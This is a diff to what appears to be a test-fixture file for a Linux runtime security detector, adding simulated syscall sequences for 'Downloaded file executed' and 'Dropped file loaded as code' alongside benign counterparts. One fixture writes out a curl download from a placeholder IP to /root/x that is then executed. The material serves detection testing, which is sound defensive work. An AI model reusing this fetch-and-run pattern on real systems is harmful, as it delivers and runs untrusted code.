@@ -408,6 +408,51 @@ def story_ptrace_benign(s):
     s.syscall("ptrace", 2, sysno=101, request=16, pid=1, enter=True)
 
 
+def story_download_exec(s):
+    """curl writes /root/x, then another child of the shell runs it: the sequence "Downloaded
+    file executed". Its first four packets (to the write) and the last two are a chain begun and
+    finished: integration.sequences sends them either side of a restart."""
+    shell(s)
+    s.execve(2, "/usr/bin/curl", argv=["curl", "-o", "/root/x", "http://192.0.2.9/x"])
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/root/x", flags=0o1101)  # O_WRONLY|O_CREAT|O_TRUNC
+    s.clone(1, 3)
+    s.execve(3, "/root/x")
+
+
+def story_download_exec_benign(s):
+    """The same download run through an interpreter (sh /root/x: the program is sh), and a file
+    run before curl writes it."""
+    shell(s)
+    s.clone(1, 4)
+    s.execve(4, "/root/y")
+    s.execve(2, "/usr/bin/curl", argv=["curl", "-o", "/root/x", "http://192.0.2.9/x"])
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/root/x", flags=0o1101)
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/root/y", flags=0o1101)
+    s.clone(1, 3)
+    s.execve(3, "/bin/sh", argv=["sh", "/root/x"])
+
+
+def story_drop_mmap(s):
+    """A library written in /tmp by a program that is no build tool, then mapped executable:
+    the sequence "Dropped file loaded as code" (sentry/mmap: release-20260714.0 on)."""
+    shell(s)
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/tmp/libx.so", flags=0o1101)  # O_WRONLY|O_CREAT|O_TRUNC
+    s.execve(2, "/usr/bin/python3")
+    s.mmap_info(2, "/tmp/libx.so", mapped_ino=90, mapped_mode=S_IFREG | 0o755)
+
+
+def story_drop_mmap_benign(s):
+    """The same library written by the linker (building is the work), then loaded; and a
+    library loaded that nothing wrote."""
+    shell(s)
+    s.execve(2, "/usr/bin/ld")
+    s.syscall("open", 2, result=3, sysno=257, fd=-100, pathname="/tmp/libx.so", flags=0o1101)
+    s.clone(1, 3)
+    s.execve(3, "/usr/bin/python3")
+    s.mmap_info(3, "/tmp/libx.so", mapped_ino=90, mapped_mode=S_IFREG | 0o755)
+    s.mmap_info(3, "/tmp/liby.so", mapped_ino=91, mapped_mode=S_IFREG | 0o755)
+
+
 def story_fields(s):
     """Every new message and field once, for detail, the views and the lines."""
     s.start(1, ["/bin/bash"])
